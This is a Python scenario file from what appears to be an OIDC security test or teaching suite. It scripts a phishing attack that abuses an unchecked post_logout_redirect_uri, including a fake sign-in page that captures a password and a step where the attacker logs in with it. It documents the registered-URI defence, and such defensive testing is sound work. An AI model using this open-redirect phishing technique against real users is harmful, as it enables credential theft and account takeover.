"""A logout link of the real server ends at a fake sign-in page."""

from urllib.parse import urlencode

from scenarios import honest
from scenarios.attacks.stage import Stage
from scenarios.attacks.story import Defence, Story
from scenarios.browser.pages import Leg
from scenarios.browser.user_agent import follow
from scenarios.honest import NOTES_PATH, Person
from scenarios.impostors.answers import Answer
from scenarios.impostors.loopback_server import LoopbackServer, Received
from tracing.catalogue import AUTHORIZATION_SERVER

SIGN_OUT_HERE = "Sign out here"
FALSE_PAGE = b"""<!doctype html><title>Sign in</title>
<p>You are signed out. Sign in again to go on.</p>
<form method="post">
<label>User name <input name="username"></label>
<label>Password <input name="password" type="password"></label>
<button>Sign in</button>
</form>"""


class FalseSignIn(LoopbackServer):
    """The attacker's site, which looks like the authorization server."""

    def __init__(self) -> None:
        super().__init__(0, {"sign_in": "/"})

    def answer_sign_in(self, _: Received) -> Answer:
        """Return the sign-in page, whatever was typed."""
        return Answer(headers={"Content-Type": "text/html"}, body=FALSE_PAGE)


def _play(stage: Stage) -> str | None:
    with FalseSignIn() as site:
        return _played(stage, site)


def _played(stage: Stage, site: FalseSignIn) -> str | None:
    stage.tell("Alice is signed in: she has opened her notes in Notebook.")
    stage.victim.goes(honest.to_notes(stage.scene.client_app, NOTES_PATH))

    stage.tell(
        "The attacker builds a page that looks like the sign-in page of the server. Alice looks "
        "at the address before she opens a link, so the attacker does not send her the address "
        "of that page, but a link to the logout endpoint of the real server. The link names "
        "Notebook, and the false page as the place to go to afterwards."
    )
    begun = stage.attacker.sends(Leg("GET", stage.scene.client_app + NOTES_PATH)).answered()
    query = urlencode({"client_id": begun["client_id"], "post_logout_redirect_uri": site.url})
    page = stage.victim.send(Leg("GET", f"{stage.scene.authorization_server}/end-session?{query}"))

    stage.tell("The address is right. Alice signs out, as the page suggests.")
    form = page.form_with(SIGN_OUT_HERE)
    onward = stage.victim.send(form.press(SIGN_OUT_HERE)).redirect() if form else None
    if onward is None:
        return None

    stage.tell(
        "The server redirects her. She sees a page that looks like the page before, and asks her "
        "to sign in again. She does not look at the address a second time, and types her password."
    )
    typed = honest.sign_in(stage.victim.goes(follow(onward)))
    if typed is None:
        return None
    stage.victim.send(typed)

    stage.tell("The attacker signs in at the real server, with what she typed.")
    return _signed_in(stage, site)


def _signed_in(stage: Stage, site: FalseSignIn) -> str | None:
    received = site.received("sign_in")[-1]
    stolen = Person(received.parameter("username"), received.parameter("password"))
    account = f"{stage.scene.authorization_server}/account"
    browser = stage.attacker.agent
    opened = browser.goes(honest.signed_in(browser.goes(follow(Leg("GET", account))), stolen))
    said = opened.text.partition("Your account ")[2].partition(" . ")[0]
    return said and f"The password of {stolen.name}. Her account page says: {said}"


STORY = Story(
    slug="logout-open-redirect",
    title="A logout that ends on a false sign-in page",
    attacker="someone who can have Alice open a link",
    victim="Alice, who looks at the address before she opens a link",
    clause="OIDC RP-Initiated Logout §3, RFC 9700 §4.11.2",
    idea="People are taught to look at the address. So the link leads to the right server, which "
    "then redirects the browser itself. After a logout a sign-in page is what everyone expects.",
    has="A page that looks like the sign-in page, and the client_id of Notebook.",
    lesson="The server redirects to addresses that the client has registered for this purpose, and "
    "compares them whole, as at the authorization endpoint. For any other address it says that "
    "the request cannot be trusted, offers to sign out here, and redirects to no page.",
    stopped_by=(Defence(AUTHORIZATION_SERVER, "post_logout_redirect_uri_is_registered"),),
    play=_play,
)
